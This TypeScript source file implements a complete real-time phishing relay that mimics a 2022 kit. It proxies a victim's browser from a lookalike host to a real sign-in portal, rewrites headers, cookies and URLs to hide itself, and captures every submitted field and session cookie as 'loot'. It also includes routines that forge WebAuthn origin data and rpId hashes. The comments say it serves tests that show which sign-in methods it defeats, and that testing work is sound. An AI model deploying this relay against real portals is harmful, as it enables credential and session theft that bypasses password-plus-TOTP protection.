/**
 * A real-time phishing relay, built the way the 2022 kit behind `cloudflare-okta.com` worked: the
 * victim's browser talks to a lookalike origin, the relay forwards every request to the real portal
 * and rewrites what would give it away (Host, Origin, Referer on the way in; Location, Set-Cookie and
 * portal URLs in bodies on the way out), and it keeps everything it sees: typed form fields, JSON
 * bodies and every cookie. Tests use it to show which sign-in methods it defeats (password + TOTP) and
 * which it cannot (WebAuthn: the browser binds the assertion to the origin it really talks to).
 */
import { createHash } from 'node:crypto';
import http from 'node:http';
import type { AddressInfo } from 'node:net';

export interface RelayOptions {
  /** Lookalike host name the victim sees, e.g. `acme-okta.localhost` or `login.acme.localhost`. */
  lookalikeHost: string;
  /** The real portal's host (`sso.acme.localhost`) and the port it listens on at 127.0.0.1. */
  portalHost: string;
  portalPort: number;
  /**
   * Replace the relying-party id in WebAuthn options (sign-in `rpId`, registration `rp.id`) with this
   * one, so the browser accepts the call on the lookalike origin.
   */
  rewriteRpId?: string;
  /**
   * What a kit does to make a registration or an assertion made on its own origin look like the real
   * portal's before forwarding it: `origin` writes the portal's origin into clientDataJSON, `rpIdHash`
   * writes SHA-256 of `realRpId` over the lookalike's in authenticatorData (and inside the attestation
   * object), `attestationNone` asks the browser for attestation `none`, so no signature covers either.
   */
  forgeCeremonies?: { realRpId: string; origin?: boolean; rpIdHash?: boolean; attestationNone?: boolean };
}

export interface LootCookie {
  name: string;
  value: string;
  /** `request`: sent by the victim's browser; `response`: issued by the portal (Set-Cookie). */
  seen: 'request' | 'response';
  path: string;
}

export interface LootBody {
  method: string;
  path: string;
  /** URL-encoded form fields, or a JSON body as parsed. */
  fields: Record<string, unknown>;
}

export interface RelayExchange {
  method: string;
  path: string;
  status: number;
}

export interface PhishingRelay {
  /** `http://<lookalikeHost>:<port>`: the link the SMS would carry. */
  readonly origin: string;
  readonly port: number;
  readonly loot: { cookies: LootCookie[]; bodies: LootBody[]; exchanges: RelayExchange[] };
  /** The last non-empty value the portal set for a cookie (the attacker's prize is the session). */
  stolenCookie(name: string): string | undefined;
  /** Submitted fields (forms and JSON) that carried `name`, oldest first. */
  capturedField(name: string): unknown[];
  close(): Promise<void>;
}

const HOP_BY_HOP = new Set(['connection', 'keep-alive', 'proxy-connection', 'transfer-encoding', 'upgrade', 'te', 'trailer', 'content-length']);
const TEXT_BODY = /^(text\/|application\/json|application\/javascript|application\/x-www-form-urlencoded)/;

function readBody(stream: http.IncomingMessage): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    stream.on('data', (chunk: Buffer) => chunks.push(chunk));
    stream.on('end', () => resolve(Buffer.concat(chunks)));
    stream.on('error', reject);
  });
}

function parseCookieHeader(header: string | undefined): { name: string; value: string }[] {
  if (!header) return [];
  return header.split(';').flatMap((pair) => {
    const at = pair.indexOf('=');
    return at > 0 ? [{ name: pair.slice(0, at).trim(), value: pair.slice(at + 1).trim() }] : [];
  });
}

function parseFields(contentType: string, body: string): Record<string, unknown> | undefined {
  if (contentType.startsWith('application/x-www-form-urlencoded')) return Object.fromEntries(new URLSearchParams(body));
  if (contentType.startsWith('application/json')) {
    try {
      const value: unknown = JSON.parse(body);
      return typeof value === 'object' && value !== null && !Array.isArray(value) ? (value as Record<string, unknown>) : undefined;
    } catch {
      return undefined;
    }
  }
  return undefined;
}

/**
 * A kit keeps the cookie but moves it to its own host: drop `Domain` (host-only on the lookalike) and
 * `Secure` when the lookalike is plain http (a `.localhost` name stands in for the attacker's TLS).
 */
export function rewriteSetCookie(cookie: string, lookalikeIsHttps: boolean): string {
  return cookie
    .split(';')
    .map((part) => part.trim())
    .filter((part) => !/^domain=/i.test(part) && (lookalikeIsHttps || !/^secure$/i.test(part)))
    .join('; ');
}

const sha256 = (text: string) => createHash('sha256').update(text).digest();

/** Rewrites a posted WebAuthn response (`{ response: { response: {...} } }`) as `forge` says; see RelayOptions. */
function forgeCeremonyResponse(fields: Record<string, unknown>, forge: NonNullable<RelayOptions['forgeCeremonies']>, portalOrigin: string, lookalikeRpId: string): Record<string, unknown> {
  const credential = fields.response as { response?: Record<string, string> } | undefined;
  const inner = credential?.response;
  if (!inner || typeof inner.clientDataJSON !== 'string') return fields;
  const rewritten = { ...inner };
  if (forge.origin) {
    const clientData = JSON.parse(Buffer.from(inner.clientDataJSON, 'base64url').toString('utf8')) as Record<string, unknown>;
    clientData.origin = portalOrigin;
    rewritten.clientDataJSON = Buffer.from(JSON.stringify(clientData), 'utf8').toString('base64url');
  }
  if (forge.rpIdHash) {
    const [from, to] = [sha256(lookalikeRpId), sha256(forge.realRpId)];
    if (typeof inner.authenticatorData === 'string') {
      const data = Buffer.from(inner.authenticatorData, 'base64url');
      to.copy(data, 0);
      rewritten.authenticatorData = data.toString('base64url');
    }
    if (typeof inner.attestationObject === 'string') {
      // authData sits inside the CBOR as a byte string: the hash is replaced in place, same length.
      const object = Buffer.from(inner.attestationObject, 'base64url');
      const at = object.indexOf(from);
      if (at >= 0) to.copy(object, at);
      rewritten.attestationObject = object.toString('base64url');
    }
  }
  return { ...fields, response: { ...credential, response: rewritten } };
}

export async function startPhishingRelay(options: RelayOptions): Promise<PhishingRelay> {
  const portalAuthority = `${options.portalHost}:${options.portalPort}`;
  const portalOrigin = `http://${portalAuthority}`;
  const loot: PhishingRelay['loot'] = { cookies: [], bodies: [], exchanges: [] };
  const agent = new http.Agent({ keepAlive: true });
  let lookalikeOrigin = '';
  let lookalikeAuthority = '';

  const toPortal = (text: string) => text.split(lookalikeOrigin).join(portalOrigin).split(lookalikeAuthority).join(portalAuthority);
  const toLookalike = (text: string) => {
    let out = text.split(portalOrigin).join(lookalikeOrigin).split(portalAuthority).join(lookalikeAuthority);
    if (options.rewriteRpId) {
      const rpId = JSON.stringify(options.rewriteRpId);
      out = out.replace(/"rpId":"[^"]*"/g, `"rpId":${rpId}`).replace(/("rp":\{[^{}]*?"id":)"[^"]*"/g, `$1${rpId}`);
    }
    if (options.forgeCeremonies?.attestationNone) out = out.replace(/"attestation":"[^"]*"/g, '"attestation":"none"');
    return out;
  };

  const server = http.createServer((req, res) => {
    void relay(req, res).catch((error: unknown) => {
      if (!res.headersSent) res.writeHead(502, { 'content-type': 'text/plain' });
      res.end(`relay error: ${(error as Error).message}`);
    });
  });

  async function relay(req: http.IncomingMessage, res: http.ServerResponse): Promise<void> {
    const path = req.url ?? '/';
    for (const cookie of parseCookieHeader(req.headers.cookie)) loot.cookies.push({ ...cookie, seen: 'request', path });
    const rawBody = await readBody(req);
    const contentType = String(req.headers['content-type'] ?? '');
    let body = rawBody;
    if (rawBody.length > 0 && TEXT_BODY.test(contentType)) {
      const text = rawBody.toString('utf8');
      const fields = parseFields(contentType, text);
      if (fields) loot.bodies.push({ method: req.method ?? 'GET', path, fields });
      // Form values are percent-encoded: rewrite them decoded, as a kit parsing the form would.
      let rewritten = contentType.startsWith('application/x-www-form-urlencoded')
        ? new URLSearchParams([...new URLSearchParams(text)].map(([name, value]): [string, string] => [name, toPortal(value)])).toString()
        : toPortal(text);
      if (options.forgeCeremonies && fields && contentType.startsWith('application/json')) {
        rewritten = toPortal(JSON.stringify(forgeCeremonyResponse(fields, options.forgeCeremonies, portalOrigin, options.rewriteRpId ?? options.lookalikeHost)));
      }
      body = Buffer.from(rewritten, 'utf8');
    }

    const headers: http.OutgoingHttpHeaders = {};
    for (const [name, value] of Object.entries(req.headers)) {
      if (value === undefined || HOP_BY_HOP.has(name) || name === 'accept-encoding') continue;
      headers[name] = value;
    }
    // What the portal's CSRF check sees is whatever the relay writes here: an Origin check alone
    // cannot tell a relay from the browser. Only WebAuthn's clientDataJSON carries the real origin.
    headers.host = portalAuthority;
    if (typeof req.headers.origin === 'string') headers.origin = portalOrigin;
    if (typeof req.headers.referer === 'string') headers.referer = toPortal(req.headers.referer);
    if (body.length > 0) headers['content-length'] = String(body.length);

    const upstream = await new Promise<http.IncomingMessage>((resolve, reject) => {
      const outgoing = http.request({ host: '127.0.0.1', port: options.portalPort, method: req.method, path, headers, agent }, resolve);
      outgoing.on('error', reject);
      outgoing.end(body);
    });
    const upstreamBody = await readBody(upstream);
    const status = upstream.statusCode ?? 502;
    loot.exchanges.push({ method: req.method ?? 'GET', path, status });

    const out: http.OutgoingHttpHeaders = {};
    for (const [name, value] of Object.entries(upstream.headers)) {
      if (value === undefined || HOP_BY_HOP.has(name) || name === 'strict-transport-security') continue;
      out[name] = value;
    }
    if (typeof upstream.headers.location === 'string') out.location = toLookalike(upstream.headers.location);
    const setCookies = upstream.headers['set-cookie'] ?? [];
    for (const cookie of setCookies) {
      const [pair = ''] = cookie.split(';');
      const at = pair.indexOf('=');
      if (at > 0) loot.cookies.push({ name: pair.slice(0, at).trim(), value: pair.slice(at + 1).trim(), seen: 'response', path });
    }
    if (setCookies.length > 0) out['set-cookie'] = setCookies.map((cookie) => rewriteSetCookie(cookie, lookalikeOrigin.startsWith('https:')));
    let responseBody = upstreamBody;
    if (TEXT_BODY.test(String(upstream.headers['content-type'] ?? '')) && !upstream.headers['content-encoding']) {
      responseBody = Buffer.from(toLookalike(upstreamBody.toString('utf8')), 'utf8');
    }
    out['content-length'] = String(responseBody.length);
    res.writeHead(status, out);
    res.end(responseBody);
  }

  // Chromium tries ::1 first for *.localhost; '::' also accepts IPv4 on this host.
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '::', resolve);
  });
  const port = (server.address() as AddressInfo).port;
  lookalikeAuthority = `${options.lookalikeHost}:${port}`;
  lookalikeOrigin = `http://${lookalikeAuthority}`;

  return {
    origin: lookalikeOrigin,
    port,
    loot,
    stolenCookie(name) {
      const issued = loot.cookies.filter((c) => c.seen === 'response' && c.name === name && c.value !== '');
      return issued.at(-1)?.value;
    },
    capturedField(name) {
      return loot.bodies.filter((b) => name in b.fields).map((b) => b.fields[name]);
    },
    async close() {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
      agent.destroy();
    },
  };
}
